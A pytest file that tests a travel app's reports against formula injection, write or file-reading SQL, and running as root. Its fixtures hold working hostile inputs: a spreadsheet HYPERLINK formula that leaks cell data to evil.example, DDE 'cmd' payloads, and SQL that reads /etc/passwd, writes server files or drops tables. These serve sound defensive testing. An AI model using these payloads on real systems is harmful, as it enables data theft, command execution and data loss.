"""Attacks through reports: a report that writes, one that writes server files, customer names
built to run as spreadsheet formulas, and running as root when the read-only analyst exists."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from harness import procedures as sp
from harness.accounts import create_accounts
from harness.db import connect
from harness.reports import Column, Report, ReportError, parse, run

from .conftest import Story, t

MARCH = ["-p", "date_from=2026-03-01", "-p", "date_to=2026-03-31"]
FORMULAS = {
    "evil1@example.com": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "evil2@example.com": "+1+cmd|' /C calc'!A0",
    "evil3@example.com": "-2+3+cmd|' /C calc'!A0",
    "evil4@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
}
ANALYST_PASSWORD = "analyst-Secret-42"


@pytest.fixture(scope="module")
def evil_customers(story_url):
    """Four customers whose names are formulas, each paying for one seat on 15 March."""
    conn = connect(story_url)
    story = Story(conn)
    story.at("03-14 09:00:00")
    trip = sp.add_trip(conn, "DB", "DB0315", "BERHBF", "MUCHBF", t("03-20 09:00:00"),
                       t("03-20 13:00:00"), [{"fare_class": "economy", "capacity": 9, "price": "50.00",
                                                        "currency": "EUR"}], None)  # fmt: skip
    for email, name in FORMULAS.items():
        story.at("03-15 09:00:00")
        user = sp.register_user(conn, email, "hash", name)
        reservation = story.book("03-15 10:00:00", user, [trip])
        story.pay("03-15 10:01:00", reservation, user, "50.00", "card")
    sp.refresh_reporting_facts(conn)  # reports read the folded reporting tables (V0030)
    conn.close()
    return FORMULAS


def test_csv_escapes_text_cells_that_would_run_as_formulas(travel, evil_customers):
    result = travel("report", "top_customers", "-p", "date_from=2026-03-15", "-p", "date_to=2026-03-15",
                    "--format", "csv")  # fmt: skip
    assert result.exit_code == 0, result.output
    rows = {row["email"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    for email, name in evil_customers.items():
        assert rows[email]["full_name"] == "'" + name  # text: escaped
        assert rows[email]["net"] == "50.00"


def test_csv_keeps_negative_numbers_numbers(travel):
    result = travel("report", "revenue", *MARCH, "-p", "granularity=day", "--format", "csv")
    assert "2026-03-05,EUR,300.00,400.00,-100.00" in result.stdout.splitlines()  # money: not escaped


def test_json_and_xlsx_keep_names_as_text_never_formulas(travel, evil_customers, tmp_path):
    from openpyxl import load_workbook

    args = ["report", "top_customers", "-p", "date_from=2026-03-15", "-p", "date_to=2026-03-15"]
    names = {r["full_name"] for r in json.loads(travel(*args, "--format", "json").stdout)}
    assert names == set(evil_customers.values())  # JSON is data, not a spreadsheet: unchanged
    target = tmp_path / "top.xlsx"
    assert travel(*args, "--format", "xlsx", "-o", str(target)).exit_code == 0
    sheet = load_workbook(target)["rows"]
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == set(evil_customers.values())
    assert {c.data_type for c in cells} == {"s"}  # strings, not formulas ("f")


def test_html_escapes_names(travel, evil_customers, tmp_path):
    page = tmp_path / "top.html"
    travel("report", "top_customers", "-p", "date_from=2026-03-15", "-p", "date_to=2026-03-15",
           "--format", "html", "-o", str(page))  # fmt: skip
    text = page.read_text()
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)" in text


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("CREATE TABLE stolen (a INT PRIMARY KEY)", "one SELECT"),
        ("DELETE FROM payments", "one SELECT"),
        ("SELECT 1 AS a;\nDROP TABLE payments", "one SELECT"),
        ("CALL purge_expired_reservations(0, @n)", "one SELECT"),
        ("SELECT 1 AS a INTO OUTFILE '/tmp/travel-report-leak.txt'", "server files"),
        ("SELECT LOAD_FILE('/etc/passwd') AS a", "server files"),
    ],
)
def test_the_loader_refuses_anything_but_one_select(tmp_path, body, message):
    path = tmp_path / "evil.sql"
    path.write_text(f"-- name: evil\n-- title: Evil\n-- column: a INT a\n{body}\n")
    with pytest.raises(ReportError, match=message):
        parse(path)


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE TABLE stolen (a INT PRIMARY KEY)",
        "INSERT INTO settings (setting_key, setting_value) VALUES ('hold_minutes', '999')",
        "UPDATE settings SET setting_value = '999'",
        "DROP TABLE refund_rules",
        "CALL purge_expired_reservations(0, @purged)",
    ],
)
def test_a_report_that_writes_fails_and_leaves_nothing_behind(story_url, sql):
    """Past the loader (a hand-made Report), the read-only session still refuses, as root."""
    conn = connect(story_url)
    before = _snapshot(conn)
    sneaky = Report("sneaky", "Sneaky", Path("sneaky.sql"), sql, columns=[Column("a", "INT", "a")])
    with pytest.raises(Exception, match="READ ONLY|1792"):
        run(conn, sneaky, {})
    assert _snapshot(conn) == before
    conn.close()


def _snapshot(conn):
    cur = conn.cursor()
    cur.execute("SHOW TABLES")
    tables = sorted(r[0] for r in cur.fetchall())
    cur.execute("SELECT setting_key, setting_value FROM settings ORDER BY setting_key")
    settings = cur.fetchall()
    cur.execute("SELECT COUNT(*) FROM reservations")
    reservations = cur.fetchone()
    conn.rollback()
    cur.close()
    return tables, settings, reservations


@pytest.fixture
def whoami_project(tmp_path):
    project = tmp_path / "project"
    (project / "schema").mkdir(parents=True)
    (project / "queries").mkdir()
    (project / "queries" / "whoami.sql").write_text(
        "-- name: whoami\n-- title: Who runs reports\n-- column: who TEXT the account\nSELECT CURRENT_USER() AS who\n"
    )
    return project


@pytest.fixture(scope="module")
def analyst(story_url):
    conn = connect(story_url)
    create_accounts(conn, story_url.database, {"travel_analyst": ANALYST_PASSWORD})
    conn.close()
    return ANALYST_PASSWORD


def test_reports_run_as_the_analyst_when_its_password_is_known(travel, whoami_project, analyst):
    env = {"TRAVEL_ANALYST_PASSWORD": analyst}
    result = travel("report", "whoami", "--format", "json", project=whoami_project, env=env)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == [{"who": "travel_analyst@%"}]
    assert "note:" not in result.stderr


def test_the_analyst_password_file_under_travel(travel, whoami_project, analyst):
    (whoami_project / ".travel").mkdir()
    stored = whoami_project / ".travel" / "analyst.password"
    stored.write_text(analyst + "\n")
    stored.chmod(0o644)
    refused = travel("report", "whoami", project=whoami_project)
    assert refused.exit_code == 1 and "is readable by other users; `chmod 600" in refused.output
    stored.chmod(0o600)
    result = travel("report", "whoami", "--format", "json", project=whoami_project)
    assert json.loads(result.stdout) == [{"who": "travel_analyst@%"}]


def test_without_the_analyst_the_given_account_runs_with_a_note(travel, whoami_project):
    result = travel("report", "whoami", "--format", "json", project=whoami_project)
    assert result.exit_code == 0
    assert json.loads(result.stdout)[0]["who"].startswith("root@")
    assert "note: running as root, not the read-only travel_analyst" in result.stderr


def test_every_report_runs_as_the_analyst(travel, analyst):
    """The analyst's grants cover what the reports read (never a password hash)."""
    for name in json.loads(travel("reports", "--format", "json").stdout):
        result = travel("report", name["report"], *MARCH, "--format", "json", env={"TRAVEL_ANALYST_PASSWORD": analyst})
        assert result.exit_code == 0, (name, result.output)


def test_a_wrong_analyst_password_says_where_it_came_from(travel, whoami_project, analyst):
    result = travel("report", "whoami", project=whoami_project, env={"TRAVEL_ANALYST_PASSWORD": "not-" + analyst})
    assert result.exit_code == 1
    assert result.output.strip() == (
        "Error: cannot log in as travel_analyst with the password from TRAVEL_ANALYST_PASSWORD; create the "
        "account (`travel accounts --analyst-password ...`) or correct the password"
    )
